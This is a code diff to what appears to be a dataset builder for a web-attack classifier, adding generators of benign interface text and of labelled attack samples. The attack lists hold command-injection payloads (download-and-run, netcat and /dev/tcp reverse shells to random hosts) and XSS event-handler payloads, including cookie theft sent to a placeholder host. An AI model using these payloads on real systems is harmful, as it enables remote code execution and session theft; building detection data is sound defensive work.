@@ -614,6 +614,137 @@ def real_agents(root: Path) -> list[Sample]:
     return [Sample(agent, "benign", "real-agents") for agent in sorted(agents - {"", "-"})]
 
 
+# Interface text that opens with, or holds, a word that SQL, the shell or JavaScript also use.
+_UI_VERBS = (
+    *("Select", "Order", "Update", "Delete", "Insert", "Drop", "Join", "Create", "Alter", "Grant", "Execute"),
+    *("Sleep", "Echo", "Ping", "Alert", "Import", "Print", "Run", "Kill", "Find", "Sort", "Group", "Set", "Show"),
+    *("Load", "Copy", "Move", "Limit", "Union", "Exec", "Script", "Cat", "Where", "From", "Like", "Having"),
+)
+_UI_LINKS = ("a", "an", "the", "your", "all", "my", "by", "to", "from", "one", "some", "this", "our", "any", "me", "up")
+_UI_NOUNS = (
+    *("box", "phone", "size", "colour", "date", "item", "items", "account", "name", "price", "newest", "file"),
+    *("region",),
+    *("store", "language", "seat", "plan", "email", "city", "option", "category", "rating", "details", "password"),
+    *("station", "mode", "summary", "coin", "card", "time", "week", "list", "table", "team", "order", "writing"),
+)
+_AUTHORS = ("Jeremy McPeak", "J. Smith", "Ana García", "Li Wei", "O'Reilly Media", "Müller & Co")
+_HTML_TAGS = ("p", "div", "span", "em", "strong", "b", "i", "h1", "h2", "h3", "blockquote", "code", "pre", "li", "td")
+
+
+def generated_phrases(count: int, seed: int, source: str = "generated-phrases") -> list[Sample]:
+    """What search boxes, buttons, titles and rich-text fields send: phrases that open with a
+    word SQL or the shell also use (``Select a box``, ``Order by price``), titles with
+    brackets and numbers (``Beginning JavaScript [5th Edition]``, ``(3)``), formatting HTML
+    without anything active in it, and Markdown."""
+    rng = random.Random(seed)
+
+    def ui() -> str:
+        words = [rng.choice(_UI_VERBS), rng.choice(_UI_LINKS), rng.choice(_UI_NOUNS)]
+        if rng.random() < 0.4:
+            words += [rng.choice(("and", "or", "by", "for", "with", "in")), rng.choice(_UI_NOUNS)]
+        text = " ".join(words)
+        return rng.choice((text, text.lower(), text.capitalize() + rng.choice((".", "...", "?", ":")), text.title()))
+
+    def title() -> str:
+        head = " ".join(rng.choice((*_UI_VERBS, *_UI_NOUNS, "JavaScript", "Python", "SQL")).title() for _ in range(3))
+        return rng.choice(
+            (
+                f"{head} [{rng.randint(2, 9)}th Edition] - {rng.choice(_AUTHORS)}",
+                f"{head} ({rng.randint(1, 2030)})",
+                f"({rng.randint(0, 99)})",
+                f"Page {rng.randint(1, 40)} (of {rng.randint(40, 99)})",
+                f"Chapter {rng.randint(1, 30)}: {ui()}",
+                f"{head} & {rng.choice(_UI_NOUNS)} (2nd ed.)",
+            )
+        ).replace(" ", rng.choice((" ", " ", "+", "_")))
+
+    def html() -> str:
+        inner = []
+        for _ in range(rng.randint(1, 4)):
+            tag = rng.choice(_HTML_TAGS)
+            attribute = rng.choice(("", "", f' class="{rng.choice(_UI_NOUNS)}"', f' id="s{rng.randint(1, 99)}"'))
+            inner.append(f"<{tag}{attribute}>{ui()}</{tag}>")
+        if rng.random() < 0.3:
+            inner.append(f'<a href="https://www.example.com/{rng.choice(_UI_NOUNS)}">{ui()}</a><br>')
+        body = rng.choice(("\n", "")).join(inner)
+        wrappers = (
+            "{}",
+            '<div class="md">{}\n</div>',
+            "<!-- SC_OFF -->{}<!-- SC_ON -->",
+            '<!doctype html><html lang="en"><head><meta charset="UTF-8"/><title>{t}</title>'
+            '<link rel="stylesheet" href="https://cdn.example.com/ui.css"></head><body>{}</body></html>',
+        )
+        return rng.choice(wrappers).replace("{t}", ui()).format(body)
+
+    def markdown() -> str:
+        name = "".join(rng.choice(_B64[26:]) for _ in range(12))
+        return rng.choice(
+            (
+                f'{ui()}\n\n![{rng.choice(("img", "gif", "video"))}]({name} "optional caption")\n\n{ui()}',
+                f"**{ui()}**\n- {ui()}\n- {ui()}",
+                f"# {ui()}\n\n[{ui()}](https://www.example.com/{rng.choice(_UI_NOUNS)})",
+                f"> {ui()}\n\n`{rng.choice(_UI_NOUNS)}_{rng.choice(_UI_NOUNS)}`",
+            )
+        )
+
+    makers = (ui, ui, ui, title, html, markdown)
+    return [Sample(rng.choice(makers)(), "benign", source) for _ in range(count)]
+
+
+# Options that make a program run another (git, ssh, tar, find, zip, ...), and what they run
+_RUNNING_OPTIONS = (
+    *("--upload-pack={}", "--receive-pack={}", "--exec={}", "-oProxyCommand={}", "--use-compress-program={}"),
+    *("--checkpoint-action=exec={}", "-exec {} ;", "--to-command={}", "-TT {}", "--unzip-command={}"),
+    *("--rsh={}", "-e {}", "--config=core.sshCommand={}", "--open-files-in-pager={}", "--browser-cmd={}"),
+)
+_RUN = (
+    *("id", "sleep 30", "sleep 5;", "touch /tmp/pwn", "id>/tmp/out", "sh -c 'id'", 'sh -c "id > /tmp/x"', "whoami"),
+    *("curl {host}|sh", "wget -qO- {host}|bash", "nc -e /bin/sh {host} 4444", "bash -i >& /dev/tcp/{host}/4444 0>&1"),
+)
+# JavaScript calls that run a function without writing alert(1), and where they go
+_CALLS = (
+    *("alert(1)", "alert.call(null,1)", "alert.apply(null,[1])", "Reflect.apply(alert,null,[1])"),
+    *("self['al'+'ert'](1)",),
+    *("window?.alert?.(1)", "(_=prompt,_(1))", "setTimeout(alert,0,1)", "setInterval(confirm,0,1)", "confirm``"),
+    *("top[/al/.source+/ert/.source](1)", "prompt.call(null,1)", "eval(atob('YWxlcnQoMSk='))", "document.cookie"),
+    *("window['location']='//x.example/'+document.cookie", "import('//x.example/a.js')", "[1].map(alert)"),
+)
+_HANDLERS = ("onfocus", "onmouseover", "onerror", "onload", "onclick", "ondblclick", "onwheel", "onpointerenter")
+_XSS_PLACES = (
+    '" {h}={c} autofocus x="',
+    "' {h}={c} autofocus '",
+    '"{h}={c}//',
+    "<x {h}={c}>",
+    "<img src=x {h}={c}>",
+    "<svg/{h}={c}>",
+    "javascript:{c}",
+    '"><svg {h}={c}>',
+    "<details open {h}={c}>",
+)
+
+
+def generated_attacks(count: int, seed: int) -> list[Sample]:
+    """Command injection through a program's own options (argument injection) and XSS with
+    an event handler that calls a function in one of the ways that avoid ``alert(1)``."""
+    rng = random.Random(seed)
+
+    def letters(n: int) -> str:
+        return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))
+
+    def argument() -> Sample:
+        run = rng.choice(_RUN).format(host=f"{letters(8)}.{rng.choice(_TLDS)}")
+        option = rng.choice(_RUNNING_OPTIONS).format(run if rng.random() < 0.5 else f'"{run}"')
+        text = rng.choice((option, f"{letters(3)} {option}", f"'{option}'", f"{option} {letters(4)}@x.{letters(3)}"))
+        return Sample(text, "cmdi", "generated-arguments")
+
+    def handler() -> Sample:
+        place = rng.choice(_XSS_PLACES)
+        event = "".join(c.upper() if rng.random() < 0.3 else c for c in rng.choice(_HANDLERS))
+        return Sample(place.format(h=event, c=rng.choice(_CALLS)), "xss", "generated-handlers")
+
+    return [rng.choice((argument, handler))() for _ in range(count)]
+
+
 def licence_prose(limit: int) -> list[Sample]:
     """Sentences of ordinary English prose from the licence texts every Debian system ships."""
     out: list[Sample] = []
@@ -719,6 +850,7 @@ def training_and_test(root: Path, seed: int = 7) -> tuple[list[Sample], list[Sam
     train += generated_benign(30000, seed) + tokens + licence_prose(20000) + generated_agents(TRAINING_AGENTS, seed)
     references = generated_references(TRAINING_REFERENCES, seed)
     train += generated_commands(1500, seed) + generated_queries(1500, seed) + references
+    train += generated_phrases(8000, seed) + generated_attacks(3000, seed)
     # label words: the training side's own (CSIC's Spanish names and streets, the licences'
     # first half, the generator's), never a test label's word
     words = {w.lower() for s in csic for w in re.findall(r"[A-Za-z]{3,12}", s.text)}
@@ -732,13 +864,14 @@ def training_and_test(root: Path, seed: int = 7) -> tuple[list[Sample], list[Sam
     train += [Sample(text, "benign", source) for text, source in benign_values(root, "train", REAL_PER_FOLDER, seed)]
     extra_train, extra_test = extra_payloads(root)
     train += extra_train
-    drawn = {s.text for s in tokens + references}
+    drawn = {s.text for s in tokens + references + generated_phrases(8000, seed)}
     test = httpparams(root, "test") + gotestwaf(root) + mgm_lookalikes(root) + extra_test
     test_real = benign_values(root, "test", REAL_TEST_PER_FOLDER, seed)
     test += [Sample(text, "benign", label(source)) for text, source in test_real]
     test += [s for s in generated_tokens(5000, seed + 1000, "generated-tokens-test") if s.text not in drawn]
     test += [s for s in generated_references(2000, seed + 1000, "generated-references-test") if s.text not in drawn]
     test += generated_labels(3000, seed + 1000, licence_words(1), "generated-labels-test")
+    test += [s for s in generated_phrases(2000, seed + 1000, "generated-phrases-test") if s.text not in drawn]
     test = [filled(s) for s in test]
     test_texts = {s.text for s in test}
     train = [done for done in map(filled, train) if done.text not in test_texts and not _probe(done)]
